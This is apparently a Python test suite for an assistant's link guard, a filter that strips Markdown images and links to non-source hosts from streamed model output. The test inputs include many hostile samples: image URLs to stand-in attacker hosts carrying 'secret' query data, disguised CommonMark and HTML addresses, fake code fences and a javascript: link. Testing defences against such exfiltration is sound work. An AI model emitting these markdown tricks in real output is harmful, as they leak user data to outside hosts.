"""Images and links that are no sources do not come through, however the stream is split."""

from __future__ import annotations

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from assistant.link_guard import LEFT_OUT, LinkGuard, without_foreign_links

SOURCE = "https://en.wikipedia.org/wiki/ReAct?oldid=7"


@pytest.mark.parametrize(
    ("said", "shown"),
    [
        ("See ![chart](https://evil.example/p.png?d=secret) here.", "See chart here."),
        ("See ![](https://evil.example/p.png) here.", "See  here."),
        (f"See [the article]({SOURCE}) here.", f"See [the article]({SOURCE}) here."),
        (f"See {SOURCE}.", f"See {SOURCE}."),
        (f"An image even of a source: ![x]({SOURCE})", "An image even of a source: x"),
        ("Go [here](https://evil.example/?q=[1]) now.", "Go here now."),
        ("Go [here [1]](//evil.example/a(b)c) now.", "Go here [1] now."),
        ("Go to https://evil.example/x, please.", f"Go to {LEFT_OUT}, please."),
        ("Go to www.evil.example/x now", f"Go to {LEFT_OUT} now"),
        ('<img src="https://evil.example/x.png"> and', f'< img src="{LEFT_OUT}"> and'),
        ("[x]: https://evil.example/x", f"[x] : {LEFT_OUT}"),
        ("A <- b, x<3 and a List<int> stay.", "A <- b, x<3 and a List<int> stay."),
        ("Call `f[0](a, b)` or `<b>` first.", "Call `f[0](a, b)` or `<b>` first."),
        ("[x](javascript:alert(1)) y", "x y"),
        ("Call `get('https://api.example/v1')` first.", "Call `get('https://api.example/v1')` first."),
        ("Call `get('https://evil.example/v1')` first.", f"Call `get('{LEFT_OUT}')` first."),
        ("```\nget('https://api.example/v1')\n![x](https://evil.example)\n```\n", None),
        ("Plain [1] text [2, 3] with (brackets) and a ` tick!", "Plain [1] text [2, 3] with (brackets) and a ` tick!"),
        ("A ratio 3//4 and a path a/b stay.", "A ratio 3//4 and a path a/b stay."),
    ],
)
def test_what_is_no_source_is_left_out(said: str, shown: str | None) -> None:
    cleaned = without_foreign_links(said, {SOURCE}, "get('https://api.example/v1')")
    assert "evil.example" not in cleaned
    if shown is not None:
        assert cleaned == shown


BRACKETS = "https://en.wikipedia.org/wiki/Kiln_(disambiguation)"


@pytest.mark.parametrize(
    ("said", "shown"),
    [
        (f"See {BRACKETS}.", None),
        (f"(So says {BRACKETS}), and more.", None),
        (f"{SOURCE}/ is the same.", None),
        (f"**{BRACKETS}** and *{BRACKETS}*!", None),
        (f"{BRACKETS}?q=secret here", f"{LEFT_OUT})?q=secret here"),
        (f"{BRACKETS}secret here", f"{LEFT_OUT})secret here"),
        (f"{SOURCE}// here", f"{LEFT_OUT} here"),
    ],
)
def test_brackets_of_an_address_are_its_own_and_a_slash_makes_no_other(said: str, shown: str | None) -> None:
    assert without_foreign_links(said, {SOURCE, BRACKETS}) == (said if shown is None else shown)


def test_code_stays_as_it_is() -> None:
    code = "```\nf[0](x)\nfor a in b[1]:\n    <img src='x.png'>\n```\nThen `g[1](y)`.\n"
    assert without_foreign_links(code, ()) == code


def test_what_is_taken_out_is_counted() -> None:
    guard = LinkGuard({SOURCE})
    guard.feed(f"![a](https://evil.example) https://evil.example {SOURCE} ")
    assert guard.removed == 2


def test_words_are_given_on_as_they_come() -> None:
    guard = LinkGuard(())
    assert [guard.feed(piece) for piece in ("One tw", "o three", " [1] f", "our")] == ["One ", "two ", "three [1] ", ""]
    assert guard.finish() == "four"


@pytest.mark.parametrize(
    "said",
    [
        "x ]```` ]````[a](b) y",  # a code span behind a bracket opens no fence
        "\u2028``` [a](//evil.example)\n[b](c)\n",  # a line for Python, and none for Markdown
        "x\r``` [a](//evil.example)\n[b](c)\n",
        f"{SOURCE}[1](https://evil.example) z",  # an address does not go on in the words of a link behind it
        "a `b c` d [e](f) g",
        "[](`)[ ](`) x",  # a tick within a link, and one within the next, are no code span
        "[`click`](b) ``[a](b)` x",
        "[a][(the words of](y) z",  # taken out, behind a bracket that was given on
    ],
)
def test_however_a_line_is_split_the_same_comes_through(said: str) -> None:
    whole = without_foreign_links(said, {SOURCE})
    assert "](" not in whole
    assert "evil" not in whole
    for at in range(len(said) + 1):
        guard = LinkGuard({SOURCE})
        assert guard.feed(said[:at]) + guard.feed(said[at:]) + guard.finish() == whole


DISGUISED = [  # CommonMark makes an address of each, which a browser reads as one of another host
    "![a][x]\n\n[x]: \\\\evil.test\\i",
    "![a][x]\n\n[x]://evil.test/i.png",
    "![a][x]\n\n[x]: https:evil.test/p",
    "![a][x]\n\n[x]: https:&#47;&#47;evil.test/p",
    "![a][x]\n\n[x]:\n  \\\\evil.test/p",
    "> [x]: /\\evil.test/p\n\n![a][x]",
    "[foo\nbar]: \\\\evil.test/x\n\n![a][foo\nbar]",
    "[x]: <\\\\evil.test/a b>\n\n![x]",
    "[![a](\\\\evil.test/i.png)](https://evil.test)",
    f"[![a](\\\\evil.test/i.png)]({SOURCE})",
    "[a](\n\\\\evil.test/x)",
    "![a\nb](/\\evil.test/i.png)",
    "![a](\\/\\/evil.test/x 'b\nc')",
    "![a [b [c] d]](\\\\evil.test/x)",
    "<https:evil.test/x>",
    "<img\nsrc=/\\evil.test/x>",
    "<IMG src=\\\\evil.test>",
    "a<img src=\\\\evil.test>",
    # What seems to be code and is none.
    "```\n~~~\n```\n![a](\\\\evil.test/i.png)",
    "``` a`b\n![a](\\\\evil.test/i.png)\n",
    "\\`![a](\\\\evil.test/x)`",
    "x ```![a](\\\\evil.test/x)`",
    "`a\n`![b](\\\\evil.test/x)` c",
    "- ```\n  code\n- ![a](\\\\evil.test/x)\n",
    "- a\n\n  ```\n  code\n- ![a](\\\\evil.test/x)\n",
    "<div>\n```\n\n![a](\\\\evil.test/x)",
    "x\u2028```\n![a](\\\\evil.test/x)",
    "```\n`\r```\r![a](\\\\evil.test/x)\n",
    "a\n```\nb\n````\n![a](\\\\evil.test/x)",
]


def fetched(text: str) -> list[str]:
    """What a browser would fetch, or offer to follow, of a text that is shown as Markdown with HTML in it."""
    shown = MarkdownIt("commonmark", {"html": True}).render(text)
    return re.findall(r"<[a-z][^<>]*?(?:src|href)=[\"']?([^\s\"'>]+)", shown, re.IGNORECASE)


@pytest.mark.parametrize("said", DISGUISED)
def test_a_disguised_address_is_neither_fetched_nor_linked(said: str) -> None:
    assert any("evil" in address for address in fetched(said)), "the attack itself works no more"
    for size in (1, 2, 3, 5, len(said)):
        guard = LinkGuard({SOURCE})
        shown = "".join(guard.feed(said[n : n + size]) for n in range(0, len(said), size)) + guard.finish()
        assert shown == without_foreign_links(said, {SOURCE})
        assert set(fetched(shown)) <= {SOURCE}


@pytest.mark.parametrize(
    "said", ["[[a]](x)(\\\\evil.test/p)", "[a][(\\\\evil.test/p)](y)", "![[a]](x)(/\\evil.test/p)"]
)
def test_taking_a_link_out_makes_no_other_one(said: str) -> None:
    assert fetched(without_foreign_links(said, {SOURCE})) == []


PIECES = st.sampled_from(
    [
        "![",
        "[",
        "]",
        "(",
        ")",
        "](",
        "https://evil.example/a",
        BRACKETS,
        SOURCE,
        " ",
        "\n",
        "`",
        "```\n",
        "word",
        "[1]",
        "//x.y",
        "!",
        ".",
        "\\\\evil.test/",
        "]:",
        "<b>",
        "<img src=",
        "- ",
        "  ",
        "~~~",
        "\\",
    ]
)


@given(st.lists(PIECES, max_size=14), st.data())
def test_however_the_text_is_split_it_is_cleaned_alike(pieces: list[str], data: st.DataObject) -> None:
    text = "".join(pieces)
    cuts = sorted(data.draw(st.lists(st.integers(0, len(text)), max_size=6)))
    guard = LinkGuard({SOURCE, BRACKETS})
    said = "".join(guard.feed(text[a:b]) for a, b in zip([0, *cuts], [*cuts, len(text)], strict=True)) + guard.finish()
    assert said == without_foreign_links(text, {SOURCE, BRACKETS})
    assert "evil.example" not in said
    assert not re.search(r"!\[[^\]\n]*\]\(https?:", said)
    assert not [address for address in fetched(said) if "evil" in address]


@given(st.text(alphabet="ab .,\n[]()!123", max_size=200))
def test_text_without_any_address_stays_as_it_is(text: str) -> None:
    if "](" not in text:
        assert without_foreign_links(text, ()) == text
